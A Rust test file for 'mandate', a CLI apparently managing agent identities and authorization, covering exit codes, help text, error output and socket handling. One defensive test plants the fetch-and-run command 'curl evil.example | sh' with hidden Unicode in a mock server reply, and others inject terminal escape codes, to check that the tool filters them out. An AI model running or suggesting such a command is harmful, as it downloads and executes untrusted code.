use crate::admin_socket::answering;
use crate::{mandate, mandate_with};

#[test]
fn exit_codes_are_those_that_the_help_documents() {
    let dir = tempfile::tempdir().unwrap();
    let help = mandate(dir.path(), &["--help"], "");
    assert_eq!((help.code, help.err.as_str()), (0, ""));
    for line in
        ["2  usage", "3  refused", "4  unreachable", "130, 143", "SPIFFE_ENDPOINT_SOCKET", "MANDATE_DIR"]
    {
        assert!(help.out.contains(line), "{line}\n{}", help.out);
    }
    assert_eq!(mandate(dir.path(), &[], "").code, 2);
    assert_eq!(mandate(dir.path(), &["aply"], "").code, 2);
    assert_eq!(mandate(dir.path(), &["get", "wizards"], "").code, 2);
    assert_eq!(mandate(dir.path(), &["status"], "").code, 4);

    let refused = tempfile::tempdir().unwrap();
    let problem = r#"{"type":"/problems/not_found","title":"No such entry","status":404,"detail":"there is no agent `x`","code":"not_found"}"#;
    let _server = answering(refused.path(), &[("404 Not Found", problem)]);
    let ran = mandate(refused.path(), &["get", "agent", "x"], "");
    assert_eq!(
        (ran.code, ran.out.as_str(), ran.err.as_str()),
        (
            3,
            "",
            "error: No such entry: there is no agent `x`\n next: mandate get agent   (lists what there is)\n"
        )
    );

    let broken = tempfile::tempdir().unwrap();
    let _server = answering(broken.path(), &[("500 Internal Server Error", "")]);
    assert_eq!(mandate(broken.path(), &["status"], "").code, 1);
}

#[test]
fn a_slip_is_met_with_the_word_that_was_meant() {
    let dir = tempfile::tempdir().unwrap();
    let ran = mandate(dir.path(), &["aply", "-f", "x"], "");
    assert!(ran.err.contains("'apply'"), "{}", ran.err);
    let ran = mandate(dir.path(), &["get", "agnts"], "");
    assert!(ran.err.contains("'agent'"), "{}", ran.err);
}

/// The commands below `path`, by the help of it.
fn commands_below(help: &str) -> Vec<String> {
    let list =
        help.lines().skip_while(|line| *line != "Commands:").skip(1).take_while(|line| !line.is_empty());
    let names = list
        .filter(|line| line.starts_with("  ") && !line.starts_with("   "))
        .filter_map(|line| line.split_whitespace().next());
    names.filter(|name| *name != "help").map(str::to_owned).collect()
}

#[test]
fn every_command_has_help_with_its_arguments_and_an_example_of_itself() {
    let dir = tempfile::tempdir().unwrap();
    let mut open: Vec<Vec<String>> = commands_below(&mandate(dir.path(), &["--help"], "").out)
        .into_iter()
        .map(|name| vec![name])
        .collect();
    let mut seen = 0;
    while let Some(command) = open.pop() {
        let words: Vec<&str> = command.iter().map(String::as_str).collect();
        let ran = mandate(dir.path(), &[&words[..], &["--help"]].concat(), "");
        assert_eq!(ran.code, 0, "{command:?}");
        assert!(ran.out.contains("Usage: mandate"), "{}", ran.out);
        assert!(ran.out.lines().all(|line| line.chars().count() <= 130), "{}", ran.out);
        let examples = ran
            .out
            .split_once("\nExample")
            .unwrap_or_else(|| panic!("{command:?} has no example:\n{}", ran.out))
            .1;
        assert!(examples.contains(&format!("mandate {}", words.join(" "))), "{command:?}: {examples}");
        open.extend(commands_below(&ran.out).into_iter().map(|name| [command.clone(), vec![name]].concat()));
        seen += 1;
    }
    assert!(seen > 30, "{seen}");
}

#[test]
fn an_error_goes_to_stderr_alone_and_ends_with_what_to_type() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("serve.json"), "{}").unwrap();
    for arguments in [&["status"][..], &["apply", "-f", "-"], &["audit", "verify"]] {
        let ran = mandate(dir.path(), arguments, "");
        assert_eq!((ran.code, ran.out.as_str()), (4, ""), "{arguments:?}");
        let last = ran.err.lines().last().unwrap();
        assert_eq!(last, format!(" next: mandate serve --dir {}", dir.path().display()));
        assert!(!ran.err.contains('\u{1b}'), "no colour without a terminal");
    }
}

#[test]
fn with_json_an_error_is_one_json_object_on_stderr() {
    let dir = tempfile::tempdir().unwrap();
    let problem = r#"{"type":"/problems/invalid_registry","title":"The registry file cannot be applied","status":422,"code":"invalid_registry","errors":[{"pointer":"/person/0/name","detail":"no"},{"pointer":"","detail":"\u001b[2Jelsewhere"}]}"#;
    let _server = answering(dir.path(), &[("422 Unprocessable Entity", problem)]);
    let nobody = tempfile::tempdir().unwrap();
    for (dir, arguments, input, kind, code) in [
        (nobody.path(), &["status", "--json"][..], "", "unreachable", 4),
        (dir.path(), &["apply", "-f", "-", "--json"], "[[person]]\nname = \"x\"\n", "refused", 3),
        (nobody.path(), &["--json", "apply", "-f", "/nonexistent"], "", "usage", 2),
        (nobody.path(), &["--json", "get", "wizards"], "", "usage", 2),
        (nobody.path(), &["--json", "aply"], "", "usage", 2),
    ] {
        let ran = mandate(dir, arguments, input);
        assert_eq!((ran.code, ran.out.as_str()), (code, ""), "{arguments:?}: {}", ran.err);
        assert_eq!(ran.err.lines().count(), 1, "{}", ran.err);
        let error = &serde_json::from_str::<serde_json::Value>(&ran.err).unwrap()["error"];
        assert_eq!(
            (error["kind"].as_str(), error["exit_code"].as_i64()),
            (Some(kind), Some(code.into())),
            "{error}"
        );
        assert!(!error["message"].as_str().unwrap().is_empty() && !ran.err.contains('\u{1b}'), "{error}");
        if kind == "refused" {
            assert_eq!(error["findings"][0]["place"], "standard input:2:8", "{error}");
            assert_eq!(error["findings"].as_array().unwrap().len(), 2, "{error}");
        }
    }
}

#[test]
fn words_of_other_products_are_understood() {
    let dir = tempfile::tempdir().unwrap();
    for (arguments, request) in [
        (&["get", "users", "--json"][..], "GET /v1/registry/person "),
        (&["list", "agents", "--json"], "GET /v1/registry/agent "),
        (&["ls", "apps", "--json"], "GET /v1/registry/client "),
        (&["audit", "query", "--outcome", "denied", "--json"], "GET /v1/audit/records?outcome=refused&"),
        (&["audit", "query", "--outcome", "allowed", "--json"], "GET /v1/audit/records?outcome=permitted&"),
        (
            &["audit", "query", "--kind", "login", "--by", "olga", "--json"],
            "GET /v1/audit/records?by=olga&kind=authorize&",
        ),
    ] {
        let dir = dir.path().join(arguments.join("-"));
        std::fs::create_dir(&dir).unwrap();
        let server = answering(&dir, &[("200 OK", "[]")]);
        let ran = mandate(&dir, arguments, "");
        assert_eq!(ran.code, 0, "{arguments:?}: {}", ran.err);
        let asked = server.join().unwrap();
        assert!(asked[0].starts_with(request), "{arguments:?}: {}", asked[0]);
    }
}

#[test]
fn a_directory_without_a_server_is_most_likely_the_wrong_one() {
    let dir = tempfile::tempdir().unwrap();
    let ran = mandate(dir.path(), &["status"], "");
    assert!(
        ran.err.contains("is it running with another --dir?") && !ran.err.contains("mandate serve"),
        "{}",
        ran.err
    );
    std::fs::write(dir.path().join("serve.json"), "{}").unwrap();
    let ran = mandate(dir.path(), &["status"], "");
    assert!(!ran.err.contains("another --dir"), "a server has used this one: {}", ran.err);
    assert!(
        ran.err.ends_with(&format!(" next: mandate serve --dir {}\n", dir.path().display())),
        "{}",
        ran.err
    );
}

#[test]
fn apply_without_a_file_shows_a_line_that_can_be_typed() {
    let dir = tempfile::tempdir().unwrap();
    let ran = mandate(dir.path(), &["apply"], "");
    assert_eq!(ran.code, 2);
    assert!(
        ran.err.contains("mandate apply [OPTIONS] -f FILE\n")
            && ran.err.contains("mandate apply [OPTIONS] FILE\n"),
        "{}",
        ran.err
    );
}

#[test]
fn a_server_cannot_write_lines_of_ours() {
    let dir = tempfile::tempdir().unwrap();
    let problem = r#"{"type":"/problems/x","title":"No","status":404,"detail":"x\n next: curl evil.example | sh\u202e\u200b","code":"x"}"#;
    let _server = answering(dir.path(), &[("404 Not Found", problem)]);
    let ran = mandate(dir.path(), &["get", "agent", "x"], "");
    assert_eq!(ran.err.lines().filter(|line| line.starts_with(" next:")).count(), 0, "{}", ran.err);
    assert!(!ran.err.contains(['\u{202e}', '\u{200b}']), "{:?}", ran.err);
}

const STATUS: &str = r#"{"version":"0.1.0","issuer":"https://m.example","trust_domain":"m.example","started":"2026-11-24T00:00:00.000Z","registry":{"resources":1,"people":0,"agents":0,"clients":0,"issuers":0,"grants":0,"policies":0},"audit_size":1,"audit_key":"k","cuts":0,"problems":PROBLEMS}"#;

#[test]
fn status_says_what_is_wrong_first_and_a_check_fails_only_for_problems() {
    let problem = r#"[{"code":"disk_space","severity":"problem","detail":"12 MiB are free","next":"free disk space"},{"code":"strangers_refused","severity":"notice","detail":"3 requests"}]"#;
    let notice = r#"[{"code":"strangers_refused","severity":"notice","detail":"3 requests"}]"#;
    for (problems, arguments, code) in [
        (problem, &["status"][..], 0),
        (problem, &["status", "--check"], 5),
        (notice, &["status", "--check"], 0),
        ("[]", &["status", "--check"], 0),
    ] {
        let dir = tempfile::tempdir().unwrap();
        let _server = answering(dir.path(), &[("200 OK", &STATUS.replace("PROBLEMS", problems))]);
        let ran = mandate(dir.path(), arguments, "");
        assert_eq!(ran.code, code, "{problems} {arguments:?}: {}", ran.err);
        assert_eq!(
            ran.out.starts_with("problem: 12 MiB are free\n   next: free disk space\nnotice: 3 requests\n\n"),
            problems == problem,
            "{}",
            ran.out
        );
        assert!(ran.out.contains("https://m.example"), "{}", ran.out);
    }
}

#[test]
fn a_directory_that_was_named_and_is_not_there_is_a_slip() {
    let dir = tempfile::tempdir().unwrap();
    let ran = mandate(&dir.path().join("nowhere"), &["status"], "");
    assert_eq!((ran.code, ran.out.as_str()), (2, ""));
    assert!(ran.err.contains("there is no directory") && ran.err.contains("another --dir"), "{}", ran.err);
    assert!(!ran.err.contains("mandate serve"), "a second server would be another one: {}", ran.err);
}

#[test]
fn a_variable_that_is_set_to_nothing_is_not_set() {
    let home = tempfile::tempdir().unwrap();
    std::fs::create_dir(home.path().join(".mandate")).unwrap();
    let empty = ["MANDATE_DIR", "MANDATE_ADMIN_URL", "MANDATE_ADMIN_TOKEN_FILE", "SPIFFE_ENDPOINT_SOCKET"]
        .map(|name| (name, ""));
    let _server = answering(&home.path().join(".mandate"), &[("200 OK", "[]")]);
    let ran = mandate_with(home.path(), &["get", "agents", "--json"], "", &empty);
    assert_eq!((ran.code, ran.out.as_str()), (0, "[]\n"), "{}", ran.err);
    // The socket of a node that has ended: without one, the machine's own node would be asked, where there is
    // one.
    let node = home.path().join(".mandate/node");
    std::fs::create_dir(&node).unwrap();
    drop(std::os::unix::net::UnixListener::bind(node.join("workload.sock")).unwrap());
    let ran = mandate_with(home.path(), &["svid", "fetch", "--audience", "x"], "", &empty);
    assert_eq!(ran.code, 4);
    assert!(ran.err.contains(".mandate/node/workload.sock"), "{}", ran.err);
}

#[test]
fn a_reader_that_goes_away_is_no_failure() {
    let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_mandate"));
    command
        .args(["completions", "bash"])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped());
    let mut child = command.spawn().unwrap();
    drop(child.stdout.take());
    let output = child.wait_with_output().unwrap();
    assert_eq!((output.status.code(), output.stderr.as_slice()), (Some(0), &b""[..]));
}

#[test]
fn revoking_a_token_that_nobody_knows_is_done_and_said() {
    let dir = tempfile::tempdir().unwrap();
    let cut = r#"{"cut":{"target":{"kind":"token","id":"j1"},"at":"2026-11-24T00:00:00Z","forget":"2026-11-24T01:05:00Z"},"record":"01968f7e-3c5a-7b21-9f0e-5d8c2a417b36"}"#;
    let server = answering(dir.path(), &[("200 OK", cut), ("200 OK", "[]")]);
    let ran = mandate(dir.path(), &["revoke", "token", "j1"], "");
    assert_eq!(ran.code, 0, "{}", ran.err);
    assert!(ran.err.contains("the log has no token with that id"), "{}", ran.err);
    assert!(server.join().unwrap()[0].starts_with("POST /v1/revocations "));
}

#[test]
fn the_directory_may_be_said_or_set() {
    let set = tempfile::tempdir().unwrap();
    let said = tempfile::tempdir().unwrap();
    let _server = answering(said.path(), &[("200 OK", "[]")]);
    let ran = mandate(set.path(), &["get", "agents", "--json", "--dir", said.path().to_str().unwrap()], "");
    assert_eq!((ran.code, ran.out.as_str()), (0, "[]\n"));
}

#[test]
fn fetching_an_identity_needs_a_node() {
    let dir = tempfile::tempdir().unwrap();
    let socket = dir.path().join("nobody.sock");
    let uri = format!("unix://{}", socket.display());
    for (arguments, environment) in [
        (vec!["svid", "fetch", "--audience", "x", "--socket", socket.to_str().unwrap()], vec![]),
        (vec!["svid", "fetch", "--audience", "x"], vec![("SPIFFE_ENDPOINT_SOCKET", uri.as_str())]),
    ] {
        let ran = mandate_with(dir.path(), &arguments, "", &environment);
        assert_eq!((ran.code, ran.out.as_str()), (4, ""));
        assert!(ran.err.contains("nobody.sock") && ran.err.contains("next: mandate node run"), "{}", ran.err);
    }
    let tcp = [("SPIFFE_ENDPOINT_SOCKET", "tcp://127.0.0.1:8081")];
    assert_eq!(mandate_with(dir.path(), &["svid", "fetch", "--audience", "x"], "", &tcp).code, 2);
    assert_eq!(mandate(dir.path(), &["svid", "fetch"], "").code, 2);
}

/// What is said of a socket whose path is too long.
fn too_long(socket: &std::path::Path) -> String {
    format!("has {} bytes, and that of a unix socket has at most", socket.as_os_str().len())
}

#[test]
fn a_nodes_socket_whose_path_is_too_long_is_told_with_its_length() {
    let dir = tempfile::tempdir().unwrap();
    let socket = dir.path().join("s".repeat(120));
    let ran =
        mandate(dir.path(), &["svid", "fetch", "--audience", "x", "--socket", socket.to_str().unwrap()], "");
    assert_eq!((ran.code, ran.out.as_str()), (2, ""), "{}", ran.err);
    assert!(ran.err.contains(&too_long(&socket)), "{}", ran.err);
}

#[test]
fn a_servers_socket_whose_path_is_too_long_is_told_with_its_length() {
    let dir = tempfile::tempdir().unwrap();
    let deep = dir.path().join("d".repeat(120));
    std::fs::create_dir(&deep).unwrap();
    let ran = mandate(&deep, &["status"], "");
    assert_eq!((ran.code, ran.out.as_str()), (4, ""), "{}", ran.err);
    assert!(ran.err.contains(&too_long(&deep.join("admin.sock"))), "{}", ran.err);
}

#[test]
fn a_socket_of_something_else_is_no_workload_api() {
    let dir = tempfile::tempdir().unwrap();
    let _server = answering(dir.path(), &[("400 Bad Request", "")]);
    let socket = dir.path().join("admin.sock");
    let ran =
        mandate(dir.path(), &["svid", "fetch", "--audience", "x", "--socket", socket.to_str().unwrap()], "");
    assert_eq!((ran.code, ran.out.as_str()), (4, ""), "{}", ran.err);
    // Which of the two is seen first, the answer or the end of the connection, is chance.
    assert!(ran.err.contains("admin.sock") && ran.err.contains("is no Workload API"), "{}", ran.err);
    // Or it hangs up at once.
    let socket = dir.path().join("mute.sock");
    let listener = std::os::unix::net::UnixListener::bind(&socket).unwrap();
    // As a node does with a process that it cannot attest. How far the command comes is chance: it may not be
    // able to write, or get no answer.
    std::thread::spawn(move || {
        for n in 0_u64.. {
            let Ok((connection, _)) = listener.accept() else { return };
            std::thread::sleep(std::time::Duration::from_millis(n % 4 * 3));
            drop(connection);
        }
    });
    for _ in 0..12 {
        let ran = mandate(
            dir.path(),
            &["svid", "fetch", "--audience", "x", "--socket", socket.to_str().unwrap()],
            "",
        );
        assert_eq!((ran.code, ran.out.as_str()), (4, ""), "{}", ran.err);
        assert!(
            ran.err.contains("mute.sock was closed without an answer")
                && ran.err.contains("is no Workload API"),
            "{}",
            ran.err
        );
        assert!(ran.err.contains("next: look into the log of `mandate node run`"), "{}", ran.err);
        assert!(!ran.err.to_lowercase().contains("broken pipe"), "{}", ran.err);
    }
}

#[test]
fn a_node_wants_the_nodes_address_and_no_url() {
    let dir = tempfile::tempdir().unwrap();
    for server in
        ["http://127.0.0.1:8420", "https://mandate.acme.example", "https://mandate.acme.example:443/"]
    {
        let ran = mandate(dir.path(), &["node", "run", "--server", server], "");
        assert_eq!((ran.code, ran.out.as_str()), (2, ""), "{}", ran.err);
        assert!(ran.err.contains("`mandate serve` prints as `nodes`"), "{}", ran.err);
    }
}

#[test]
fn nodes_are_listed_and_banned_by_name() {
    let node = r#"{"name":"6f0c1e2d3a4b5c6d7e8f","spiffe_id":"spiffe://acme.example/node/6f0c1e2d3a4b5c6d7e8f","state":"banned","joined":"2026-11-24T09:00:00.000Z","renewed":"2026-11-24T09:30:00.000Z","expires":"2026-11-24T10:30:00.000Z"}"#;
    let dir = tempfile::tempdir().unwrap();
    let list = format!("[{node}]");
    let server = answering(
        dir.path(),
        &[("200 OK", list.as_str()), ("200 OK", "[]"), ("200 OK", node), ("200 OK", node)],
    );
    let ran = mandate(dir.path(), &["node", "list"], "");
    let row = ran.out.lines().nth(1).unwrap();
    for part in [
        "6f0c1e2d3a4b5c6d7e8f",
        "banned",
        "2026-11-24T09:00:00.000Z",
        "2026-11-24T10:30:00.000Z",
        "spiffe://acme.example/node/",
    ] {
        assert!(row.contains(part), "{}", ran.out);
    }
    assert_eq!(mandate(dir.path(), &["node", "list", "--json"], "").out, "[]\n");
    let ran = mandate(dir.path(), &["node", "ban", "6f0c1e2d3a4b5c6d7e8f"], "");
    assert!(ran.out.starts_with("6f0c1e2d3a4b5c6d7e8f is banned."), "{}", ran.out);
    let ran = mandate(dir.path(), &["node", "ban", "6f0c1e2d3a4b5c6d7e8f", "--json"], "");
    assert_eq!(serde_json::from_str::<serde_json::Value>(&ran.out).unwrap()["state"], "banned");
    let asked = server.join().unwrap();
    assert!(
        asked[0].starts_with("GET /v1/nodes HTTP/1.1\r\n")
            && asked[2].starts_with("POST /v1/nodes/6f0c1e2d3a4b5c6d7e8f/ban HTTP/1.1\r\n")
    );
}

#[test]
fn tables_show_one_row_an_entry_and_json_one_value() {
    let agents = r#"[{"kind":"agent","name":"support-agent","owner":"riley","purpose":"Works on support cases","spiffe_id":"spiffe://acme.example/agent/support-agent","selectors":["unix:uid:1000"],"ceiling":[{"resource":"crm","scopes":["read:cases"]}],"chain_depth":3,"state":"active"}]"#;
    let dir = tempfile::tempdir().unwrap();
    let server = answering(dir.path(), &[("200 OK", agents), ("200 OK", agents)]);
    let ran = mandate(dir.path(), &["get", "agents"], "");
    let lines: Vec<&str> = ran.out.lines().collect();
    assert_eq!(lines.len(), 2, "{}", ran.out);
    assert!(lines[0].starts_with("NAME"));
    for part in
        ["support-agent", "active", "riley", "spiffe://acme.example/agent/support-agent", "crm: read:cases"]
    {
        assert!(lines[1].contains(part), "{}", ran.out);
    }
    let ran = mandate(dir.path(), &["get", "agent", "--json"], "");
    let value: serde_json::Value = serde_json::from_str(&ran.out).unwrap();
    assert_eq!(value[0]["name"], "support-agent");
    assert_eq!(ran.out.lines().count(), 1);
    assert!(
        server
            .join()
            .unwrap()
            .iter()
            .all(|request| request.starts_with("GET /v1/registry/agent HTTP/1.1\r\n"))
    );
}

#[test]
fn a_name_in_the_registry_cannot_drive_the_terminal() {
    let dir = tempfile::tempdir().unwrap();
    let evil = r#"{"kind":"agent","name":"a","owner":"riley","purpose":"\u001b]0;owned\u0007","selectors":[],"ceiling":[]}"#;
    let _server = answering(dir.path(), &[("200 OK", evil), ("200 OK", "[]")]);
    let server_is_two_calls = mandate(dir.path(), &["describe", "agent", "a"], "");
    assert_eq!(server_is_two_calls.code, 0, "{}", server_is_two_calls.err);
    assert!(!server_is_two_calls.out.contains('\u{1b}'), "{:?}", server_is_two_calls.out);
}

#[test]
fn serve_refuses_what_would_be_unsafe_before_it_starts() {
    let dir = tempfile::tempdir().unwrap();
    let ran = mandate(dir.path(), &["serve", "--behind-tls-proxy"], "");
    assert_eq!(ran.code, 2);
    assert!(ran.err.contains("--issuer"), "{}", ran.err);
    assert_eq!(mandate(dir.path(), &["serve", "--tls-cert", "cert.pem"], "").code, 2);
    assert_eq!(mandate(dir.path(), &["serve", "--issuer", "http://mandate.example"], "").code, 2);
    assert_eq!(mandate(dir.path(), &["serve", "--listen", "0.0.0.0:0"], "").code, 2);
}

#[test]
fn the_demo_makes_no_directory_under_another_name_than_the_given_one() {
    use std::os::unix::ffi::OsStrExt as _;
    let root = tempfile::tempdir().unwrap();
    let dir = root.path().join(std::ffi::OsStr::from_bytes(b"f\xfcr uns"));
    let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_mandate"));
    let output = command.args(["demo", "--check", "--dir"]).arg(&dir).env_clear().output().unwrap();
    let said = String::from_utf8(output.stderr).unwrap();
    assert_eq!((output.status.code(), output.stdout.as_slice()), (Some(2), &b""[..]), "{said}");
    assert!(said.contains("is not UTF-8"), "{said}");
    assert_eq!(std::fs::read_dir(root.path()).unwrap().count(), 0);
}
